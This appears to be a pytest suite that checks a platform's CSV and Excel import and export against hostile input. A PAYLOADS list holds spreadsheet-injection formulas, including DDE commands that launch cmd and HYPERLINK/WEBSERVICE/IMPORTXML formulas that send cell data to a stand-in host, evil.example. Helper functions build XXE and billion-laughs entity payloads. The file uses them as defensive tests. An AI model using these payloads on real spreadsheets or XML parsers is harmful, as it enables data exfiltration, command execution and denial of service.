"""Hostile spreadsheets and CSV (RELIABILITY section 5): refused, or read as plain text.

Formulas never reach a spreadsheet as formulas and come back as they were; entities in a
workbook's XML name nothing and grow into nothing; every encoding and separator is read.
"""

import csv
import io
import socket
import zipfile
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest
import xlsxwriter
from hypothesis import given
from hypothesis import strategies as st

from xrm.platform.errors import UnreadableFile
from xrm.platform.services.csv_cells import guarded, unguarded
from xrm.platform.services.export_files import write_xlsx
from xrm.platform.services.import_files import ReadOptions, read_bytes

SIGNS = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = (
    "1+1",
    "SUM(A1:A9)",
    "cmd|' /C calc'!A0",
    'HYPERLINK("https://evil.example/?"&A1,"Open")',
    'WEBSERVICE("https://evil.example/"&A2)',
    'IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
    'DDE("cmd";"/C calc";"x")',
    "=2+2",
    "'=2+2",
    "",
)
FORMULAS = [sign + payload for sign in SIGNS for payload in PAYLOADS]
PLAIN = ("'quoted'", "''", "it's", " =1+1", "a=b", "12", "x,y;z|\t", 'say "hi"', "é🙂")


def test_the_corpus_is_whole() -> None:
    assert len(set(FORMULAS)) == 60
    assert (len(BOMBS), len(ENCODINGS), len(SEPARATED)) == (20, 40, 40)


def in_csv(texts: list[str]) -> list[str]:
    """Write texts as the export does and return the cells as a spreadsheet has them."""
    out = io.StringIO()
    writer = csv.writer(out)
    for text in texts:
        writer.writerow(["x", guarded(text)])
    return [row[1] for row in csv.reader(io.StringIO(out.getvalue(), newline=""))]


def read_back(cells: list[str]) -> list[str]:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerows([["key", "text"], *(["x", cell] for cell in cells)])
    source = read_bytes(out.getvalue().encode(), "a.csv", ReadOptions(separator=","))
    return [str(row["text"]) for _, row in source.rows()]


def test_no_text_is_a_formula_and_each_comes_back() -> None:
    texts = [*FORMULAS, *(f"'{text}" for text in FORMULAS), *PLAIN]
    cells = in_csv(texts)
    assert not [cell for cell in cells if cell.startswith(SIGNS)]
    assert read_back(cells) == texts


@given(st.text("'=+-@\t\r ab1", max_size=8))
def test_guarding_can_always_be_undone(text: str) -> None:
    cell = guarded(text)
    assert not cell.startswith(SIGNS)
    assert unguarded(cell) == text


def test_numbers_stay_numbers() -> None:
    assert [guarded(value) for value in (-5, -1.5, None, True)] == [
        -5,
        -1.5,
        None,
        True,
    ]


def test_no_text_of_a_workbook_is_a_formula_and_each_comes_back() -> None:
    texts = [*FORMULAS, *(f"'{text}" for text in FORMULAS), *PLAIN]
    out = io.BytesIO()
    rows = [{"key": number, "text": text} for number, text in enumerate(texts)]
    assert write_xlsx(out, ("key", "text"), rows) == len(texts)
    with zipfile.ZipFile(out) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
        assert not [name for name in archive.namelist() if "externalLinks" in name]
    source = read_bytes(out.getvalue(), "a.xlsx", ReadOptions())
    assert [row["text"] for _, row in source.rows()] == texts


def test_formulas_of_a_workbook_are_read_as_their_values() -> None:
    out = io.BytesIO()
    with xlsxwriter.Workbook(out, {"in_memory": True}) as book:
        sheet = book.add_worksheet()
        sheet.write_string(0, 0, "text")
        for number, text in enumerate(FORMULAS, 1):
            sheet.write_string(number, 0, text)
        sheet.write_formula(len(FORMULAS) + 1, 0, "=1+1", None, 2)
    source = read_bytes(out.getvalue(), "a.xlsx", ReadOptions())
    found = [row["text"] for _, row in source.rows()]
    assert found == [*FORMULAS, 2]


# Entities

SECRET = "root-of-all-secrets"  # what must not be read
PARTS = (
    "xl/sharedStrings.xml",
    "xl/worksheets/sheet1.xml",
    "xl/workbook.xml",
    "xl/_rels/workbook.xml.rels",
)


def laughing(_: str) -> str:
    lines = ['<!ENTITY a0 "ha">']
    lines += [f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10)]
    return f"<!DOCTYPE x [{''.join(lines)}]>|&a9;"


def growing(_: str) -> str:
    return f'<!DOCTYPE x [<!ENTITY a "{"a" * 50_000}">]>|{"&a;" * 5_000}'


def reading(address: str) -> str:
    return f'<!DOCTYPE x [<!ENTITY a SYSTEM "{address}">]>|&a;'


def asking(address: str) -> str:
    return f'<!DOCTYPE x [<!ENTITY % a SYSTEM "{address}"> %a;]>|&b;'


def circling(_: str) -> str:
    return '<!DOCTYPE x [<!ENTITY a "&b;"><!ENTITY b "&a;">]>|&a;'


BOMBS = [
    (make, part)
    for make in (laughing, growing, reading, asking, circling)
    for part in PARTS
]


def poisoned(part: str, document: str) -> bytes:
    """Return a workbook with a document type in one part, and a use of its entity."""
    seed = io.BytesIO()
    with xlsxwriter.Workbook(seed, {"in_memory": True}) as book:
        book.add_worksheet().write_column(0, 0, ["name", "Anna"])
    declared, use = document.split("|")
    out = io.BytesIO()
    with zipfile.ZipFile(seed) as old, zipfile.ZipFile(out, "w") as new:
        for name in old.namelist():
            text = old.read(name).decode()
            if name == part:
                head, mark, body = text.partition("?>")
                assert mark
                if "Anna" in body:
                    body = body.replace("Anna", use)
                elif "<sheets>" in body:
                    body = body.replace('name="Sheet1"', f'name="{use}"')
                else:
                    body = body.replace("</", f"{use}</", 1)
                text = f"{head}{mark}{declared}{body}"
            new.writestr(name, text)
    return out.getvalue()


@contextmanager
def listening() -> Iterator[tuple[str, socket.socket]]:
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(0.05)
        yield f"http://127.0.0.1:{server.getsockname()[1]}/x", server


@pytest.mark.parametrize(("make", "part"), BOMBS)
def test_entities_of_a_workbook_mean_nothing(
    make: object, part: str, tmp_path: Path
) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text(SECRET)
    assert callable(make)
    with listening() as (address, server):
        for target in (address, secret.as_uri()):
            content = poisoned(part, make(target))
            try:
                found = list(read_bytes(content, "a.xlsx", ReadOptions()).rows())
            except UnreadableFile as refused:
                assert SECRET not in str(refused)  # noqa: PT017
                assert len(str(refused)) < 2_000  # noqa: PT017
            else:
                assert SECRET not in str(found)
                assert len(str(found)) < 100_000
        with pytest.raises(TimeoutError):
            server.accept()


# Encodings

WEST, EAST, CYRILLIC = "Jürg Bäné", "Łódź Žižka", "Привет мир"
ENCODINGS = {
    **dict.fromkeys(("utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be"), EAST),
    **dict.fromkeys(("utf-32", "utf-32-le", "utf-32-be", "utf-7"), EAST),
    **dict.fromkeys(("cp1252", "iso8859-1", "iso8859-15", "mac-roman", "cp850"), WEST),
    **dict.fromkeys(("cp437", "iso8859-9", "cp1254"), WEST),
    **dict.fromkeys(("cp1250", "iso8859-2", "cp852", "mac-latin2"), EAST),
    **dict.fromkeys(("cp1251", "iso8859-5", "koi8-r", "koi8-u", "cp866"), CYRILLIC),
    **dict.fromkeys(("cp1253", "iso8859-7"), "Αθήνα"),
    **dict.fromkeys(("cp1255", "iso8859-8"), "שלום"),
    **dict.fromkeys(("cp1256",), "مرحبا"),
    **dict.fromkeys(("cp1257", "iso8859-13"), "Šiauliai"),
    **dict.fromkeys(("cp1258",), "Hà"),
    **dict.fromkeys(("shift_jis", "euc_jp", "iso2022_jp"), "東京支店"),
    **dict.fromkeys(("gb18030",), "北京公司"),
    **dict.fromkeys(("big5",), "台北公司"),
    **dict.fromkeys(("euc_kr",), "서울 지점"),
}


@pytest.mark.parametrize("encoding", ENCODINGS)
def test_a_named_encoding_is_read(encoding: str) -> None:
    name = ENCODINGS[encoding]
    content = f"name;place\n{name};Bern\n".encode(encoding)
    source = read_bytes(content, "a.csv", ReadOptions(encoding=encoding))
    assert [dict(row) for _, row in source.rows()] == [{"name": name, "place": "Bern"}]


@pytest.mark.parametrize("encoding", ENCODINGS)
def test_any_encoding_ends_in_rows_or_a_message(encoding: str) -> None:
    content = f"name;place\n{ENCODINGS[encoding]};Bern\n".encode(encoding)
    try:
        rows = list(read_bytes(content, "a.csv", ReadOptions()).rows())
    except UnreadableFile as refused:
        assert "encoding" in str(refused) or "zero bytes" in str(refused)  # noqa: PT017
    else:
        assert len(rows) <= 1


@pytest.mark.parametrize("encoding", ["rot13", "base64", "idna", "punycode", "no-such"])
def test_what_is_no_encoding_of_files_is_refused(encoding: str) -> None:
    with pytest.raises(UnreadableFile, match="not in"):
        read_bytes("name\nJürg\n".encode(), "a.csv", ReadOptions(encoding=encoding))


# Separators

LAYOUTS: tuple[tuple[str, list[list[str]]], ...] = (
    ("plain", [["name", "city"], ["Anna", "Bern"], ["Bert", "Graz"]]),
    ("quoted", [["name", "city"], ["Anna, A; x", "a|b\tc"], ["B;", ",C"]]),
    ("numbers", [["name", "sum"], ["Anna", "1.250"], ["Bert", "-3"]]),
    ("empty", [["name", "city", "note"], ["Anna", "", ""], ["", "", "x"]]),
    ("breaks", [["name", "note"], ["Anna", "one\ntwo"], ["Bert", "x"]]),
    ("quotes", [["name", "note"], ['say "hi"', "it's"], ['"', "'"]]),
    ("wide", [[f"c{n}" for n in range(30)], [str(n) for n in range(30)]]),
    ("short", [["a", "b"], ["1", "2"]]),
    ("dates", [["day", "at"], ["2026-01-02", "10:20"], ["2026-02-03", "11:30"]]),
    ("long", [["name", "note"], *([f"n{n}", "word " * 40] for n in range(200))]),
)
SEPARATED = [(separator, layout) for separator in ",;\t|" for layout in LAYOUTS]


@pytest.mark.parametrize(
    ("separator", "layout"),
    SEPARATED,
    ids=[f"{layout[0]}-{ord(separator)}" for separator, layout in SEPARATED],
)
def test_a_separator_is_found(
    separator: str, layout: tuple[str, list[list[str]]]
) -> None:
    table = layout[1]
    for quoting in (csv.QUOTE_MINIMAL, csv.QUOTE_ALL):
        for end in ("\n", "\r\n"):
            out = io.StringIO()
            csv.writer(
                out, delimiter=separator, quoting=quoting, lineterminator=end
            ).writerows(table)
            source = read_bytes(out.getvalue().encode(), "a.csv", ReadOptions())
            assert source.detected.separator == separator
            found = [list(row.values()) for _, row in source.rows()]
            assert found == table[1:]


@pytest.mark.parametrize("separator", ["||", '"', "\n", ""])
def test_a_separator_is_one_character(separator: str) -> None:
    options = ReadOptions(separator=separator)
    if not separator:
        assert read_bytes(b"a;b\n1;2\n", "a.csv", options).detected.separator == ";"
        return
    with pytest.raises(UnreadableFile, match="must be one character"):
        read_bytes(b"a||b\n1||2\n", "a.csv", options)
